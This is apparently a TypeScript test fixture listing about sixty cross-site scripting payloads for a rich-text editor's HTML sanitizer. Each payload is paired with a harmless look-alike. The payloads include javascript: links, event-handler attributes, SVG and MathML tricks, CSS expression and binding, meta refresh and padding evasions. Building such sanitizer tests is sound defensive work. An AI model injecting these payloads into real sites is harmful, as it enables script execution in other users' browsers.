/** What runs in the browser of a reader, as somebody would put it into an editor's field; each with a harmless twin. */
export const editorAttacks: readonly { readonly attack: string; readonly twin: string }[] = [
  {
    attack: '<p>a &lt; b</p><a href="javascript&colon;go()">x</a>',
    twin: '<p>a &lt; b</p><a href="/javascript&colon;go()">x</a>',
  },
  {
    attack: '<p>Hi</p><script>go(1)</script>',
    twin: '<p>Hi</p><code>&lt;script&gt;go(1)&lt;/script&gt;</code>',
  },
  { attack: '<script src="//a.example/x.js"></script>', twin: '<video src="//a.example/x.mp4"></video>' },
  { attack: '<img src=x onerror=go(1)>', twin: '<img src=x alt="onerror go(1)">' },
  { attack: '<p onmouseover="go()">x</p>', twin: '<p data-mouseover="go()">x</p>' },
  { attack: '<details ontoggle=go() open>x</details>', twin: '<details open>x</details>' },
  {
    attack: '<b style="animation-name:x" onanimationstart="go()">x</b>',
    twin: '<b style="animation-name:x">x</b>',
  },
  { attack: '<video><source onerror="go()"></video>', twin: '<video><source src="/a.mp4"></video>' },
  { attack: '<a href="javascript:go()">x</a>', twin: '<a href="https://a.example/javascript:go()">x</a>' },
  { attack: '<a href="&#106;ava&#x0A;script:go()">x</a>', twin: '<a href="&#47;java&#x2d;script">x</a>' },
  {
    attack: '<pre>a &lt; b</pre><a href=" jav\tascript:go()">x</a>',
    twin: '<pre>&lt;a href="javascript:go()"&gt;</pre><a href="/x">x</a>',
  },
  { attack: '<a href="vbscript:go()">x</a>', twin: '<a href="/vbscript">x</a>' },
  {
    attack: '<a href="data:text/html;base64,PHNjcmlwdD5nbygpPC9zY3JpcHQ+">x</a>',
    twin: '<a href="data:text/csv,a;b" download>x</a>',
  },
  {
    attack: '<form action="javascript:go()"><button>x</button></form>',
    twin: '<form action="/vote"><button>x</button></form>',
  },
  {
    attack: '<form><button formaction="javascript:go()">x</button></form>',
    twin: '<form><button type="button">x</button></form>',
  },
  {
    attack: '<iframe srcdoc="&lt;script&gt;go()&lt;/script&gt;"></iframe>',
    twin: '<iframe title="&lt;script&gt;" src="https://a.example/"></iframe>',
  },
  {
    attack: '<iframe srcdoc="<img src=x onerror=go()>"></iframe>',
    twin: '<iframe src="https://a.example/embed/1"></iframe>',
  },
  { attack: '<iframe src="javascript:go()"></iframe>', twin: '<iframe src="about:blank"></iframe>' },
  {
    attack: '<iframe src="data:text/html,<script>go()</script>"></iframe>',
    twin: '<iframe src="https://a.example/?data=text/html"></iframe>',
  },
  {
    attack: '<iframe src="https://a.example/" onload="go()"></iframe>',
    twin: '<iframe src="https://a.example/" loading="lazy"></iframe>',
  },
  {
    attack: '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
    twin: '<object data="/a.pdf" type="application/pdf"></object>',
  },
  {
    attack: '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImdvKCkiLz4=">',
    twin: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImdvKCkiLz4=">',
  },
  { attack: '<embed code="javascript:go()">', twin: '<embed src="/a.mp4">' },
  { attack: '<svg onload=go()>', twin: '<svg width=10>' },
  { attack: '<svg><script href="data:,go()"/></svg>', twin: '<svg><a href="https://a.example"/></svg>' },
  {
    attack: '<svg><animate onbegin=go() attributeName=x dur=1s></svg>',
    twin: '<svg><animate begin="1s" attributeName=x dur=1s></svg>',
  },
  {
    attack: '<svg><a><set attributeName=href to="javascript:go()"/><text>x</text></a></svg>',
    twin: '<svg><a><set attributeName=fill to="red"/><text>x</text></a></svg>',
  },
  {
    attack:
      '<svg><a id=x><animate href=#x attributeName=href values="https://a.example;javascript:go()"/></a></svg>',
    twin: '<svg><a id=x><animate href=#x attributeName=opacity values="0;1"/></a></svg>',
  },
  {
    attack:
      '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><a/></svg>#x"/></svg>',
    twin: '<svg><use href="#x"/></svg>',
  },
  {
    attack: '<svg><foreignObject><body onload="go()"></body></foreignObject></svg>',
    twin: '<svg><foreignObject><div class="label">x</div></foreignObject></svg>',
  },
  {
    attack: '<math><a xlink:href="javascript:go()">x</a></math>',
    twin: '<math><a xlink:href="#eq1">x</a></math>',
  },
  {
    attack: '<math><maction actiontype="statusline" xlink:href="javascript:go()">x</maction></math>',
    twin: '<math><maction actiontype="toggle">x</maction></math>',
  },
  {
    attack: '<style>@import "https://a.example/x.css";</style>',
    twin: '<style>/* import */ p { color: red }</style>',
  },
  {
    attack: '<style>@\\69mport url(//a.example/x.css)</style>',
    twin: '<style>@media print { p { color: red } }</style>',
  },
  {
    attack: '<style>p { width: expression(go()) }</style>',
    twin: '<style>.expression { width: calc(1px + 2px) }</style>',
  },
  {
    attack: '<style>p { width: exp/* x */ression(go()) }</style>',
    twin: '<style>p { width: 1px /* expression */ }</style>',
  },
  {
    attack: '<style>p { -moz-binding: url(//a.example/x.xml#go) }</style>',
    twin: '<style>p { -moz-appearance: none }</style>',
  },
  {
    attack: '<style>p { behavior: url(//a.example/x.htc) }</style>',
    twin: '<style>p { scroll-behavior: smooth; overscroll-behavior: contain }</style>',
  },
  {
    attack: '<style>p { background: url("javascript:go()") }</style>',
    twin: '<style>p { background: url("/javascript.png") }</style>',
  },
  { attack: '<p style="width: expression(go())">x</p>', twin: '<p style="width: calc(100% - 2px)">x</p>' },
  {
    attack: '<p style="behavior:url(#default#time2)">x</p>',
    twin: '<p style="background:url(http://a.example/x.png)">x</p>',
  },
  { attack: '<base href="https://a.example/">', twin: '<base target="_blank">' },
  {
    attack: '<meta http-equiv="refresh" content="0;url=javascript:go()">',
    twin: '<meta http-equiv="Content-Type" content="text/html; charset=utf-8">',
  },
  {
    attack: '<meta content="0;url=https://a.example" http-equiv=refresh>',
    twin: '<meta name="refresh" content="0;url=https://a.example">',
  },
  { attack: '<meta charset="utf-7">', twin: '<meta charset="utf-8">' },
  {
    attack: '<link rel=import href="https://a.example/x.html">',
    twin: '<link rel=icon href="https://a.example/x.png">',
  },
  { attack: '<link rel="stylesheet" href="javascript:go()">', twin: '<link rel="stylesheet" href="/x.css">' },
  {
    attack: '<link rel=stylesheet href="data:text/css,p{}">',
    twin: '<link rel=stylesheet href="https://a.example/x.css">',
  },
  {
    attack: '<!--[if gte mso 9]><script>go()</script><![endif]-->',
    twin: '<!--[if gte mso 9]><p>x</p><![endif]-->',
  },
  {
    attack: '<noscript><p title="</noscript><img src=x onerror=go()>">',
    twin: '<noscript><img src="/pixel.gif"></noscript>',
  },
  {
    attack: `<img src="data:image/png;base64,${'iVBORw0KGgo'.repeat(900)}" onerror="go()">`,
    twin: `<img src="data:image/png;base64,${'iVBORw0KGgo'.repeat(900)}" alt="go()">`,
  },
  {
    attack: `<style>${'p { color: red } '.repeat(500)} p { -moz-binding: url(//a.example/x.xml#go) }</style>`,
    twin: `<style>${'p { color: red } '.repeat(500)} p { -moz-binding-x: none }</style>`,
  },
  { attack: `<img ${'x '.repeat(1200)} onerror=go()>`, twin: `<img ${'x '.repeat(1200)} on error>` },
  {
    attack: `${'<a x="<b" '.repeat(300)}><img src=x onerror=go()>`,
    twin: `${'<a x="<b" '.repeat(300)}><img src=x>`,
  },
  { attack: '<img src=x <1 onerror=go()>', twin: '<p>1 <2 and x < 3, on error=retry</p>' },
  {
    attack: '<style type="text/less">p { w: `go()` }</style>',
    twin: '<style type="text/css">p { top: 0 }</style>',
  },
  {
    attack: '<svg><style>&lt;img src=x onerror=go()&gt;</style></svg>',
    twin: '<svg><style>p &gt; b { top: 0 }</style></svg>',
  },
  { attack: '<applet code="x.class"></applet>', twin: '<p>An <b>applet</b> is a small program</p>' },
  {
    attack: '<frameset><frame src="https://a.example/"></frameset>',
    twin: '<figure><img src="https://a.example/"></figure>',
  },
  { attack: '<svg:script>go()</svg:script>', twin: '<svg:rect width="1"></svg:rect>' },
];
